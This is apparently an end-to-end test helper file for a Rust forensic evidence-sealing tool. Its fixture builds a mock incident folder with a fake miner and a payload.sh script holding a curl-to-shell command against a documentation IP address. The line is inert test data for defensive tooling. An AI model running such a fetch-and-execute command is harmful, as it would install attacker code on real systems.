//! Helpers shared by the end-to-end tests.

use forensic_bundle::zipread::{MemberReader, Method};
use std::io::{Cursor, Read, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

/// The binary under test.
pub fn forensic() -> Command {
    Command::new(env!("CARGO_BIN_EXE_forensic"))
}

/// A path as a command-line argument.
pub fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

/// Runs `forensic ARGS`, returning the output.
pub fn run(args: &[&str]) -> Output {
    forensic().args(args).output().expect("forensic runs")
}

/// Exit code of an output (panics on a signal, which is itself a failure).
pub fn code(o: &Output) -> i32 {
    o.status.code().unwrap_or_else(|| panic!("killed by a signal: {o:?}"))
}

/// stdout as text.
pub fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// stderr as text.
pub fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

/// Writes `content` to `dir/name`, creating parents.
pub fn write(dir: &Path, name: &str, content: &[u8]) {
    let p = dir.join(name);
    if let Some(parent) = p.parent() {
        std::fs::create_dir_all(parent).unwrap();
    }
    std::fs::write(p, content).unwrap();
}

/// An evidence directory shaped like the incident-response checklist's /tmp/evidence/<timestamp>/.
pub fn checklist_dir(root: &Path) -> PathBuf {
    let d = root.join("evidence/20240115-100000");
    std::fs::create_dir_all(&d).unwrap();
    write(
        &d,
        "pod-spec.yaml",
        b"apiVersion: v1\nkind: Pod\nmetadata:\n  name: web-7d9f\n  namespace: shop\n",
    );
    write(
        &d,
        "pod-logs.txt",
        b"GET / 200\nGET /admin 403\nGET /cgi-bin/x.sh 200\n",
    );
    write(&d, "pod-logs-previous.txt", b"");
    write(
        &d,
        "pod-describe.txt",
        b"Name: web-7d9f\nNamespace: shop\nNode: node-1\n",
    );
    write(
        &d,
        "events.txt",
        b"LAST SEEN   TYPE   REASON   OBJECT   MESSAGE\n2m Normal Started pod/web-7d9f Started container web\n",
    );
    write(
        &d,
        "container-id.txt",
        b"Container ID: 4c1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8\n",
    );
    let inspect = std::fs::read(sample("crictl-inspect/bpfman-operator-containerd-kind.json")).unwrap();
    write(&d, "container-inspect.json", &inspect);
    write(
        &d,
        "connections.txt",
        b"Netid State  Recv-Q Send-Q Local Address:Port Peer Address:Port\ntcp LISTEN 0 128 0.0.0.0:4444 0.0.0.0:*\n",
    );
    write(
        &d,
        "open-files.txt",
        b"lrwx------ 1 root root 64 Jan 15 10:00 3 -> socket:[123456]\n",
    );
    write(&d, "tmp-files.txt", b"/proc/4242/root/tmp/.x/miner\n");
    write(&d, "shm-files.txt", b"/proc/4242/root/dev/shm/payload.sh\n");
    write(
        &d,
        "files/miner",
        &(0..=255u8).cycle().take(70_000).collect::<Vec<u8>>(),
    );
    write(
        &d,
        "files/payload.sh",
        b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n",
    );
    d
}

/// The SHA-256 of a file as `sha256sum` (coreutils) prints it: an oracle independent of our code.
pub fn sha256sum(path: &Path) -> String {
    let o = Command::new("sha256sum").arg(path).output().expect("sha256sum runs");
    assert!(o.status.success(), "sha256sum {}: {}", path.display(), stderr(&o));
    stdout(&o).split_whitespace().next().unwrap_or_default().to_string()
}

/// A sample in the shared read-only folder beside the repository (`shared/samples/<rel>`).
pub fn sample(rel: &str) -> PathBuf {
    forensic_samples::path(rel)
}

/// Creates a key pair `dir/name.{key,pub}` with the binary.
pub fn keygen(dir: &Path, name: &str) -> (PathBuf, PathBuf) {
    let base = dir.join(name);
    let o = run(&["keygen", "-o", base.to_str().unwrap()]);
    assert_eq!(code(&o), 0, "keygen: {}", stderr(&o));
    (dir.join(format!("{name}.key")), dir.join(format!("{name}.pub")))
}

/// Seals `dir` into `out` with `key`.
pub fn seal(dir: &Path, out: &Path, key: &Path, extra: &[&str]) -> Output {
    let mut args = vec![
        "seal",
        dir.to_str().unwrap(),
        "-o",
        out.to_str().unwrap(),
        "--key",
        key.to_str().unwrap(),
    ];
    args.extend_from_slice(extra);
    run(&args)
}

/// A sealed checklist bundle in `root`, with its key pair.
pub fn sealed_bundle(root: &Path) -> (PathBuf, PathBuf, PathBuf) {
    let dir = checklist_dir(root);
    let (key, public) = keygen(root, "responder");
    let out = root.join("case42.zip");
    let o = seal(
        &dir,
        &out,
        &key,
        &[
            "--case",
            "CASE-42",
            "--examiner",
            "A. Responder",
            "--evidence-number",
            "7",
        ],
    );
    assert_eq!(code(&o), 0, "seal: {}{}", stdout(&o), stderr(&o));
    (out, key, public)
}

/// Parses stdout as JSON.
pub fn json(o: &Output) -> serde_json::Value {
    serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("not JSON ({e}): {}", stdout(o)))
}

/// The `action` of every custody entry in a JSON array (`verify --json`'s `custody`, `custody
/// log --json`'s `entries`), in order.
pub fn actions(entries: &serde_json::Value) -> Vec<String> {
    entries
        .as_array()
        .unwrap_or_else(|| panic!("not an array of custody entries: {entries}"))
        .iter()
        .map(|e| e["action"].as_str().unwrap().to_string())
        .collect()
}

/// The sorted failure classes of a `--json` verify output.
pub fn classes(v: &serde_json::Value) -> Vec<String> {
    let mut c: Vec<String> = v["failures"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["class"].as_str().unwrap().to_string())
        .collect();
    c.sort();
    c.dedup();
    c
}

/// (name, content, method) of every member.
pub fn members(bytes: &[u8]) -> Vec<(String, Vec<u8>, Method)> {
    forensic_bundle::zipread::read_index(
        &mut std::io::Cursor::new(bytes),
        &forensic_bundle::limits::Limits::default(),
    )
    .unwrap()
    .entries
    .iter()
    .map(|e| {
        let mut content = Vec::new();
        MemberReader::new(Cursor::new(bytes), e)
            .unwrap()
            .read_to_end(&mut content)
            .unwrap();
        (e.name.clone(), content, e.method)
    })
    .collect()
}

/// (name, content) of every member, in archive order.
pub fn contents(bytes: &[u8]) -> Vec<(String, Vec<u8>)> {
    members(bytes).into_iter().map(|(n, c, _)| (n, c)).collect()
}

/// [`sealed_bundle`] in `root` (`case42.zip`) and a copy of it that does not verify (`bad.zip`,
/// [`bad_signature_copy`]).
pub fn good_and_bad(root: &Path) -> (PathBuf, PathBuf) {
    let (good, _, _) = sealed_bundle(root);
    let bad = root.join("bad.zip");
    bad_signature_copy(&good, &bad);
    (good, bad)
}

/// Writes to `bad` a copy of the bundle `good` whose last custody signature has one byte changed:
/// well-formed, but it does not verify (`bad-signature`).
pub fn bad_signature_copy(good: &Path, bad: &Path) {
    let mut m = members(&std::fs::read(good).unwrap());
    let custody = m.iter_mut().find(|(n, _, _)| n == "custody.cbor").unwrap();
    *custody.1.last_mut().unwrap() ^= 1;
    std::fs::write(bad, rezip(&m)).unwrap();
}

/// Names of the entries of `dir` (recursively), sorted.
pub fn listing(dir: &Path) -> Vec<String> {
    let mut v = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let e = e.unwrap();
            v.push(e.path().strip_prefix(dir).unwrap().display().to_string());
            if e.file_type().unwrap().is_dir() {
                stack.push(e.path());
            }
        }
    }
    v.sort();
    v
}

/// A fresh, well-formed ZIP of these members (new CRCs): only the intended change shows.
pub fn rezip(members: &[(String, Vec<u8>, Method)]) -> Vec<u8> {
    let mut z = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, content, method) in members {
        let m = match method {
            Method::Stored => zip::CompressionMethod::Stored,
            Method::Deflate => zip::CompressionMethod::Deflated,
        };
        z.start_file(
            name.as_str(),
            zip::write::SimpleFileOptions::default().compression_method(m),
        )
        .unwrap();
        z.write_all(content).unwrap();
    }
    z.finish().unwrap().into_inner()
}
